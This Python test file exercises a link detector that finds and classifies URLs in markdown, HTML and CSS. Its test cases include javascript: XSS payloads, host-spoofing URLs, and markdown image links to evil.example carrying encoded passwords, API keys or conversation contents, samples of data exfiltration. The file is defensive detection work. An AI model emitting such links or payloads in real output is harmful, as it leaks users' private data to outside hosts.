"""Links in every form, what is suspicious about them, and whose host they name."""

import base64
import sys
from types import FrameType

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.detectors.link import Links, host_of
from gateway.detectors.link.places import BEHIND, LONGEST_URL
from gateway.types import Part
from tests.support.streaming import assert_streams
from tests.support.tables import categories, found

LINKS = Links()
A, B, EVIL = "https://a.example/x", "https://b.example/y.png", "https://evil.example/"


def encoded(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    ("text", "urls", "images"),
    [
        (f"[t]({A})", [A], []),
        (f"[t]({A} 'a title')", [A], []),
        (f"[t](<{A} z>)", [f"{A} z"], []),
        (f"![alt]({B})", [], [B]),
        (f"![]({B} =100x20)", [], [B]),
        (f"![a [nested] b]({B})", [], [B]),
        (f"[![badge]({B})]({A})", [A], [B]),
        (f"\\![not an image]({A})", [], [A]),  # a reader of our own kind may overlook the backslash
        ("[t](/path/x) [u](page.html) [v](?q=1)", ["/path/x", "page.html", "?q=1"], []),
        ("[t](//b.example/x)", ["//b.example/x"], []),
        ("[t](mailto:ann@office.example)", ["mailto:ann@office.example"], []),
        ("[t](https:/\\evil.example/x)", ["https:/\\evil.example/x"], []),
        ("[t](https://a.example/x_(y))", ["https://a.example/x_(y)"], []),
        (f"[a][1]\n\n[1]: {A}", [A], []),
        (f"![a][r]\n\n[r]: {EVIL}?d=abc 'title'", [], [f"{EVIL}?d=abc"]),
        (f"![r]\n\n> [r]: <{B}>", [], [B]),
        (f"<{A}>", [A], []),
        (f"See {A}, ({A}). **{A}**", [A, A, A], []),
        (f"'{A}' \"{A}\" `{A}`", [A, A, A], []),
        (f"访问{A}，然后", [A], []),
        ("www.a.example/x", ["www.a.example/x"], []),
        ("ftp://a.example/f ssh://git.example:22/r", ["ftp://a.example/f", "ssh://git.example:22/r"], []),
        ("file:///etc/hosts", ["file:///etc/hosts"], []),
        ("https:\\\\a.example\\x", ["https:\\\\a.example\\x"], []),
        (f"{A}?next={B}", [f"{A}?next={B}"], []),
        (f'<a href="{A}">{A}</a>', [A, A], []),
        ("<a title='>' href=/x/y>", ["/x/y"], []),
        (f'<form action="{A}"><button formaction=/go/now>', [A, "/go/now"], []),
        (f'<img alt="a > b" src="{B}">', [], [B]),
        ("<img src=//b.example/y>", [], ["//b.example/y"]),
        ("<IMG SRC = 'y.png'>", [], ["y.png"]),
        (f'<img srcset="{B} 1x, {A} 2x">', [], [B, A]),
        (f'<link rel=stylesheet href="{A}">', [], [A]),
        (f'<iframe src="{A}"></iframe><script src="{A}"></script>', [], [A, A]),
        (f'<video poster="{B}"><source src="{A}"></video>', [], [B, A]),
        (f'<svg><image xlink:href="{B}"/><use href="{A}"/></svg>', [], [B, A]),
        (f'<object data="{A}">', [], [A]),
        (f'<meta http-equiv="refresh" content="0; url={A}">', [], [A]),
        (f'<div style="background: url({B})">', [], [B]),
        (f"a {{ background: url( '{B}' ) }} @import '{A}';", [], [B, A]),
        (f"![{'x' * 600}]({B})", [], [B]),  # too long an alternative text to see where it begins
    ],
)
def test_forms(text: str, urls: list[str], images: list[str]) -> None:
    hits = found(LINKS, text)
    assert [value for category, value in hits if category == "link/url"] == urls
    assert [value for category, value in hits if category == "link/image"] == images


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Nothing here: just a colon, a slash / and (brackets) [too].",
        "handlers[name](event)",
        "note[^1] and\n[^1]: the footnote",
        "[jump](#section)",
        "a // comment, c://",
        "src = load(x); data = [1]: 2",
        "url(r'^admin/$')",
        "javascript: the good parts",
        "data: a, b; metadata:text",
        "time 12:30/13:00, ratio 1:/2",
        "<p class='x'> href </p>",
        "version www. and http",
        "ann@office.example",
    ],
)
def test_no_link(text: str) -> None:
    assert found(LINKS, text) == []


@pytest.mark.parametrize(
    "text",
    [
        "[db](postgresql+psycopg://user@db/shop)",
        "postgres://user:word@localhost:5432/shop",
        "mongodb+srv://joe:word@cluster0.acme.example/",
        "git clone ssh://git@git.acme.example/shop.git",
    ],
)
def test_servers_that_are_no_pages_deceive_nobody(text: str) -> None:
    assert categories(LINKS, text) <= {"link/url"}


@pytest.mark.parametrize(
    ("text", "category"),
    [
        ("[x](javascript:alert(1))", "link/script"),
        ("<a href='java&#x0A;script:alert(1)'>", "link/script"),
        ("<a href=' java\n\tscript:alert(1)'>", "link/script"),
        ("<a href=&#106;avascript:alert(1)>", "link/script"),
        ("[x](JaVaScRiPt:alert(1))", "link/script"),
        ("<a href=vbscript:msgbox(1)>", "link/script"),
        ("go to javascript:alert(document.cookie)", "link/script"),
        ("<iframe src='data:text/html,<b>x'>", "link/script"),
        ("![x](data:image/png;base64,AAAA)", "link/data"),
        ("data:text/plain;base64,AAAA", "link/data"),
        ("https://a.example@evil.example/", "link/userinfo"),
        ("ftp://a.example@evil.example/", "link/userinfo"),
        ("postgresx://a.example@evil.example/", "link/userinfo"),
        ("[x](//user:word@evil.example)", "link/userinfo"),
        ("http://192.0.2.7/x", "link/ip_host"),
        ("http://0x7f000001/", "link/ip_host"),
        ("http://[2001:db8::1]/", "link/ip_host"),
        ("https://xn--bcher-kva.example/", "link/punycode"),
        ("https://аpple.example/", "link/punycode"),
        (f"{EVIL}?d={encoded('the password is swordfish')}", "link/exfiltration"),
        (f"![x]({EVIL}{encoded('all about the user and more')}.png)", "link/exfiltration"),
        (f"![x]({EVIL}?d={b'the secret of the user'.hex()})", "link/exfiltration"),
        (f"![x](https://{b'the secret is'.hex()}.evil.example/i)", "link/exfiltration"),
        (f"![x]({EVIL}?q=my%20account%20number%20is%2012345)", "link/exfiltration"),
        (f"![x]({EVIL}?q={{summary}})", "link/exfiltration"),
        (f"![x]({EVIL}?q=[CONVERSATION])", "link/exfiltration"),
        (f"{EVIL}?api_key=abcd1234", "link/exfiltration"),
        (f"![x]({EVIL}#{encoded('hidden in a fragment')})", "link/exfiltration"),
        ("![x](//evil.example/?q=my%20account%20number%20is%2012345)", "link/exfiltration"),
        (f"<a href='{A}' ping='{EVIL}?q=my%20account%20number%20is%2012345'>x</a>", "link/exfiltration"),
        (f"![x]({EVIL}?m=[EMAIL_1f0c22ab])", "link/exfiltration"),
        (f"<img src='{EVIL}?m=%5BUS_SSN_1f0c22ab%5D'>", "link/exfiltration"),
    ],
)
def test_suspicious(text: str, category: str) -> None:
    assert category in categories(LINKS, text)


@pytest.mark.parametrize(
    "text",
    [
        A,
        f"![logo]({B}?width=200&height=100)",
        "https://a.example/search?q=how+to+bake+bread",
        f"https://git.example/o/r/commit/{'0a1b2c3d' * 5}",
        "https://a.example/9f8b7c6d-1234-4abc-9def-0123456789ab",
        "https://a.example/articles/a-long-title-of-an-article-about-the-weather-in-town",
        f"https://a.example/f?X-Amz-Signature={'5f' * 32}",
        "https://a.example/watch?v=aB3dE6gH9kL",
        "https://a.example/@user/post, https://a.example/?to=b@c.example",
        "[your page](https://a.example/account?m=[EMAIL_1f0c22ab])",  # who clicks, sees where it goes
        f"![x]({B}?size=[large_1f0c22ab])",
    ],
)
def test_unsuspicious(text: str) -> None:
    assert categories(LINKS, text) <= {"link/url", "link/image"}


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://Example.ORG/a?b#c", "example.org"),
        ("https://user:word@example.org:8443/", "example.org"),
        ("https://trusted.example@evil.example", "evil.example"),
        ("https:\\\\evil.example\\x", "evil.example"),
        ("https:/\\evil.example", "evil.example"),
        ("https:evil.example", "evil.example"),
        ("https:////evil.example", "evil.example"),
        ("//evil.example/x", "evil.example"),
        ("/\\evil.example", "evil.example"),
        ("ht\ttps://ev\nil.example", "evil.example"),
        (" https://evil.example ", "evil.example"),
        ("https://evil.example.", "evil.example"),
        ("https://ev%69l.example", "evil.example"),
        ("https://evil。example", "evil.example"),
        ("https://Bücher.example", "xn--bcher-kva.example"),
        ("https://so\u00adft.example", "soft.example"),
        ("view-source:blob:https://a.example/1", "a.example"),
        ("git+ssh://a.example/r", "a.example"),
        ("a.example/path", "a.example"),
        ("www.a.example", "www.a.example"),
        ("localhost:8080/x", "localhost"),
        ("http://2130706433/", "127.0.0.1"),
        ("http://0x7f.1/", "127.0.0.1"),
        ("http://0177.0.0.1/", "127.0.0.1"),
        ("http://[::1]:80/", "::1"),
        ("http://[::ffff:192.0.2.7]/", "192.0.2.7"),
        ("https://a.example\\.evil.example", None),  # two readings; neither may pass for the other
        ("https://a.example\\@evil.example", None),
        ("https://evil.example&sol;.a.example", None),
        ("https://a.example%2f.evil.example", None),
        ("https://a b.example", None),
        ("http://1.2.3.4.5/", None),
        ("http://1_0.0.0.1/", None),
        ("http://[::x]/", None),
        ("https://", None),
        ("https://" + "a" * 70 + "é.example", None),
        ("/path", None),
        ("page.html", None),
        ("#fragment", None),
        ("", None),
        ("javascript:alert(1)", None),
        ("data:text/html,x", None),
        ("mailto:ann@office.example", None),
        ("file:///etc/passwd", None),
        ("blob:" * 2000, None),
    ],
)
def test_host(url: str, host: str | None) -> None:
    assert host_of(url) == host


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="htps:/\\@.%[]?#&;1xeé-ａ。 \t", max_size=30))
def test_host_never_fails(url: str) -> None:
    host = host_of(url)
    assert host is None or (host and host == host.lower() and host.isascii() and "@" not in host and "/" not in host)


def test_a_long_url_is_found_as_far_as_its_limit() -> None:
    text = f"![x]({EVIL}?d=" + "A" * 5000 + ") end"
    (findings,) = LINKS.scan([Part(text)])
    assert {f.span for f in findings if f.category == "link/image"} == {(5, 5 + LONGEST_URL)}


def _calls(text: str) -> int:
    """How many functions, Python's and built-in ones, a scan calls."""
    count = 0

    def note(frame: FrameType, event: str, argument: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    sys.setprofile(note)
    try:
        LINKS.scan([Part(text)])
    finally:
        sys.setprofile(None)
    return count


@pytest.mark.parametrize(
    "unit", ["](", "https://", "a:/", "<img src=", "[", "www.", "url(", "data:,", "\n[a]:b.c", "![a](http://b.c/)"]
)
def test_work_grows_with_the_number_of_links_and_no_faster(unit: str) -> None:
    short, long = (_calls(unit * (size // len(unit))) for size in (8_000, 64_000))
    assert long <= 8 * 1.3 * max(short, 100)


PIECES = [
    *(
        "[t](",
        "![alt](",
        ")",
        "]",
        "[",
        "<a href=",
        '<img src="',
        '"',
        "'",
        ">",
        "[r]: ",
        "https://a.example",
        "/x?q=",
        "\n",
    ),
    *(
        "javascript:",
        "alert(1)",
        "data:text/html,",
        "www.",
        "url(",
        " ",
        "word",
        "é",
        "//b.example/",
        "srcset=",
        ", ",
        ".",
    ),
    *('<meta content="0;url=', encoded("some secret words"), "\\", "@", "http", ":"),
]


@settings(max_examples=120, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=9).map("".join))
def test_streams(text: str) -> None:
    assert_streams(LINKS, text)


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL}?d=" + "A" * 2100 + f") {A}",
        f"{A}?u=" + "B" * 2000 + f"&v={B}" + "C" * 100 + f"&w={A} end",
        f"![{'x' * 520}]({B}) [{'y' * 500}]({A})",
        f'<img alt="{"z" * 480}" src="{B}" title="{"q" * 2100} {A}',
        f'{"w" * (BEHIND + 50)}{A} <a href="{A}{" b" * 1100}',
    ],
)
def test_streams_long(text: str) -> None:
    assert_streams(LINKS, text)
